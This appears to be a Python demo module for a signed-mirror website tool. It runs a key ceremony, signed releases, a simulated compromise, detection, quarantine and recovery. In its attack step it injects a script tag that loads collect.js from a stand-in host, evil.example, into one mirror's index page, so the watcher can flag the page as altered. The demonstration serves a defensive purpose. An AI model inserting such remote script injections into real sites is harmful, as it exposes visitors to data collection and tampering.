"""The whole way once, on a real site with throw-away keys: from words to signed mirrors, through an attack, and back.

    demo = Demo(site, workshop, now, tell)
    demo.run()

Every act calls what the commands call; nothing here is a short cut. Two moments are handed out: release 1 is made
nine days ago, so that the frozen mirror has something to be frozen at.
"""

from __future__ import annotations

import secrets
import shutil
from collections.abc import Callable, Sequence
from contextlib import ExitStack
from dataclasses import dataclass, field
from datetime import datetime, timedelta
from pathlib import Path

from securesystemslib.signer import CryptoSigner

from stillhere import files
from stillhere.content.public import public_sources
from stillhere.content.read import read_site
from stillhere.errors import Problem
from stillhere.flows import signing
from stillhere.flows.building import build_site
from stillhere.flows.publishing import Published, publish
from stillhere.flows.rescue import rescue
from stillhere.flows.watching import watch
from stillhere.project import Places
from stillhere.recover.restore import Restored
from stillhere.release import keys, requests
from stillhere.release.circle import Circle
from stillhere.release.requests import Answer, Request
from stillhere.release.store import Store
from stillhere.release.verdict import Verdict
from stillhere.release.verify import Trust, VerifiedRelease
from stillhere.serving import LocalServer
from stillhere.watch.judge import Observation

Tell = Callable[..., None]

FROZEN_DAYS = 9
ALTERED_PAGE = "en/index.html"
_INJECTED = b'<script src="https://evil.example/collect.js"></script>'
_HOLDERS = ("keyholder-1", "keyholder-2", "keyholder-3", "editor", "publisher")

_NEWS = {
    "facts.toml": """published = {day}
form = "statement"
""",
    "en.md": """+++
title = "We are still here"
summary = "Our site is served from several places now."
+++
What is ours is signed; what is not signed is not ours.
""",
    "zh-Hans.md": """+++
title = "我们仍在这里"
summary = "我们的网站现在由多处同时提供。"
+++
凡是我们的，都有签名；没有签名的，就不是我们的。
""",
}


@dataclass
class Ended:
    """What the demo came to: for the report, and for whoever wants to see it hold."""

    verdicts: dict[str, Verdict] = field(default_factory=dict)
    restored: Restored | None = None
    final: dict[str, Verdict] = field(default_factory=dict)
    same_sources: bool = False
    release: VerifiedRelease | None = None

    @property
    def good(self) -> bool:
        """Whether everything came out as it should."""
        wanted = {"a": Verdict.DOWN, "b": Verdict.ALTERED, "c": Verdict.OUTDATED}
        whole = self.restored is not None and not self.restored.missing and self.same_sources
        return self.verdicts == wanted and whole and set(self.final.values()) == {Verdict.CURRENT}


class Demo:
    """One run. `workshop` is an empty folder where everything happens; `tell` is given codes and facts of sentences."""

    def __init__(self, example: Path, workshop: Path, now: datetime, tell: Tell) -> None:
        self._example, self._workshop, self._now, self._tell = example, workshop, now, tell
        self._site = workshop / "site"
        self._servers: dict[str, LocalServer] = {}
        self._signers: dict[str, CryptoSigner] = {}
        self._kept: tuple[Request, Sequence[Answer]] | None = None
        self._trust: Trust | None = None
        self.ended = Ended()

    def run(self) -> Ended:
        """All acts, in order. The servers are gone afterwards, whatever happens."""
        with ExitStack() as stack:
            stack.callback(self._stop_servers)
            self._first_build()
            self._ceremony()
            self._first_release()
            self._strangers_verify()
            self._attack()
            self._watch()
            self._quarantine()
            self._lose_and_recover()
            self._come_back()
        return self.ended

    # 1
    def _first_build(self) -> None:
        shutil.copytree(self._example, self._site, ignore=shutil.ignore_patterns(".stillhere", "signed"))
        for name in "abc":
            (self._workshop / f"mirror-{name}").mkdir()
            self._servers[name] = LocalServer(self._workshop / f"mirror-{name}")
        self._write_mirrors("abc")
        built = build_site(self._site, self._before)
        pages = sum(path.endswith(".html") for path in files.walk(Places(self._site).tree))
        self._tell("demo-built", entries=built.entries, pages=pages, files=built.files)

    @property
    def _before(self) -> datetime:
        return self._now - timedelta(days=FROZEN_DAYS)

    def _write_mirrors(self, names: str) -> None:
        """Mirrors go into the settings (where to write) and into the register (where readers may read)."""
        settings, register = self._site / "stillhere.toml", self._site / "registers" / "addresses.toml"
        own, listed = (self._example / path.relative_to(self._site) for path in (settings, register))
        mirrors = "".join(self._mirror_row(name) for name in names)
        addresses = "".join(self._address_row(name) for name in names)
        files.write_atomic(settings, own.read_bytes() + mirrors.encode())
        files.write_atomic(register, listed.read_bytes() + addresses.encode())

    def _address_row(self, name: str) -> str:
        return (
            f'\n[[address]]\nurl = "{self._servers[name].address}"\nstate = "mirror"\nsince = {self._before.date()}\n'
        )

    def _mirror_row(self, name: str) -> str:
        folder, address = self._workshop / f"mirror-{name}", self._servers[name].address
        return f'\n[[mirror]]\nname = "{name}"\nkind = "folder"\npath = "{folder}"\naddress = "{address}"\n'

    # 2
    def _ceremony(self) -> None:
        passphrase = secrets.token_urlsafe(24).encode()
        public = {}
        for name in _HOLDERS:
            folder = self._workshop / "keys" / name
            secret = keys.create(folder, name, passphrase, note=keys.THROW_AWAY, rounds=keys.DEMO_ROUNDS)
            self._signers[name] = keys.load_signer(secret, passphrase)
            public[name] = keys.load_public(secret.with_suffix(".pub"))[1]
        holders = tuple(public[name] for name in _HOLDERS[:3])
        circle = Circle(holders, 2, (public["editor"],), (public["publisher"],))
        request = signing.begin_ceremony(self._site, circle, self._before)
        answers = [requests.sign(request, name, self._signers[name]) for name in ("keyholder-1", "keyholder-3")]
        signing.finish(self._site, request, answers, [], self._before)
        self._trust = Store(Places(self._site)).trust()  # what every stranger is given, on a card or a stick
        self._tell("demo-ceremony", holders=3, threshold=2, note=keys.THROW_AWAY)

    # 3
    def _first_release(self) -> None:
        release = signing.make_release(self._site, self._online, self._before)
        self._tell("demo-released", number=release.number, files=len(release.files))
        self._say_published(publish(self._site, self._before))

    @property
    def _online(self) -> list[CryptoSigner]:
        return [self._signers["editor"], self._signers["publisher"]]

    def _say_published(self, results: list[Published]) -> None:
        for result in results:
            sent = result.uploaded.sent if result.uploaded else 0
            self._tell("demo-published", mirror=result.mirror.name.upper(), sent=sent, judgement=result.judgement)

    # 4
    def _strangers_verify(self) -> None:
        self._tell("demo-strangers")
        for name, seen in self._look("abc", self._before).items():
            self._tell("demo-verdict", mirror=name.upper(), observation=seen)

    def _look(self, names: str, now: datetime, store: Store | None = None) -> dict[str, Observation]:
        addresses = [self._servers[name].address for name in names]
        seen = watch(addresses, self._root_of_trust, now, store=store, seconds=20)
        return dict(zip(names, seen, strict=True))

    # 5
    def _attack(self) -> None:
        folder = self._site / "content" / "statement" / "we-are-still-here"
        for name, text in _NEWS.items():
            files.write_atomic(folder / name, text.replace("{day}", str(self._now.date())).encode())
        release = signing.make_release(self._site, self._online, self._now)
        self.ended.release = release
        self._tell("demo-second", number=release.number, files=len(release.files))
        self._say_published(publish(self._site, self._now, only=["a", "b"]))  # C's host takes nothing new any more
        page = self._workshop / "mirror-b" / ALTERED_PAGE
        page.write_bytes(page.read_bytes().replace(b"</body>", _INJECTED + b"</body>"))
        self._servers["a"].stop()
        self._tell("demo-attacked", page=ALTERED_PAGE)

    # 6
    def _watch(self) -> None:
        seen = self._look("abc", self._now, Store(Places(self._site)))
        for name, observation in seen.items():
            self.ended.verdicts[name] = observation.verdict
            self._tell("demo-verdict", mirror=name.upper(), observation=observation)

    def _quarantine(self) -> None:
        (self._workshop / "mirror-d").mkdir()
        self._servers["d"] = LocalServer(self._workshop / "mirror-d")  # a spare one takes its place
        register = self._site / "registers" / "addresses.toml"
        address = self._servers["b"].address
        defanged = address.removeprefix("http://").rstrip("/").replace(".", "[.]")
        reasons = 'reason = { en = "A script was injected.", zh-Hans = "页面被植入脚本。" }'
        text = register.read_text("utf-8").replace(
            f'url = "{address}"\nstate = "mirror"', f'url = "{defanged}"\n{reasons}\nstate = "compromised"'
        )
        files.write_atomic(register, (text + self._address_row("d")).encode())
        request = signing.begin_addresses(self._site, self._now)
        answers = [requests.sign(request, name, self._signers[name]) for name in ("keyholder-2",)]
        missing = signing.finish(self._site, request, answers, self._online, self._now).missing
        self._tell("demo-one-is-not-enough", missing=missing)
        answers.append(requests.sign(request, "keyholder-3", self._signers["keyholder-3"]))
        signing.finish(self._site, request, answers, self._online, self._now)
        self._kept = (request, answers)
        self._tell("demo-quarantined", mirror="B", address=defanged)

    # 7
    def _lose_and_recover(self) -> None:
        everything = [*files.walk(self._site, skip=(".stillhere", "signed"))]
        lost = public_sources(read_site(self._site, []))
        shutil.rmtree(self._site)
        self._tell("demo-lost", files=len(everything))
        places = [self._servers[name].address for name in "cb"]
        restored = rescue(places, self._site, self._root_of_trust)
        names = {self._servers[name].address: name.upper() for name in "bc"}
        for copy, count in sorted(restored.by_copy.items()):
            self._tell("demo-recovered-from", mirror=names[copy], count=count)
        for path in restored.rebuilt:
            self._tell("recovered-rebuilt", path=path)
        for path in restored.missing:
            self._tell("recovered-missing", path=path)
        self.ended.restored = restored
        self.ended.same_sources = self._compare(lost)

    @property
    def _root_of_trust(self) -> Trust:
        if self._trust is None:
            raise Problem("no-keys-yet", folder=str(self._site))
        return self._trust

    def _compare(self, lost: dict[str, bytes]) -> bool:
        """What travels of the sources is equal, except the register, whose newest version no copy ever carried."""
        assert self.ended.restored  # noqa: S101 - set just before
        differing = sorted(
            path
            for path, data in lost.items()
            if not (self._site / path).exists() or (self._site / path).read_bytes() != data
        )
        release = self.ended.restored.release
        total, here = len(release.files), len(release.files) - len(self.ended.restored.missing)
        self._tell(
            "demo-recovered",
            release=release.number,
            here=here,
            total=total,
            sources=len(lost) - len(differing),
        )
        for path in differing:
            self._tell("demo-not-on-any-copy", path=path)
        return differing == ["registers/addresses.toml"]

    def _come_back(self) -> None:
        """The keyholders kept the request and their answers: the quarantine comes back without a new signature."""
        if self._kept is None:
            raise Problem("no-keys-yet", folder=str(self._site))
        request, answers = self._kept
        signing.finish(self._site, request, answers, self._online, self._now)
        settings = self._site / "stillhere.toml"
        files.write_atomic(settings, settings.read_bytes() + self._mirror_row("d").encode())
        self._say_published(publish(self._site, self._now, only=["d"]))
        for name, seen in self._look("d", self._now, Store(Places(self._site))).items():
            self.ended.final[name] = seen.verdict
            self._tell("demo-verdict", mirror=name.upper(), observation=seen)

    def _stop_servers(self) -> None:
        for server in self._servers.values():
            server.stop()

    @property
    def result(self) -> Path:
        """The folder of the mirror that stands at the end."""
        return self._workshop / "mirror-d"
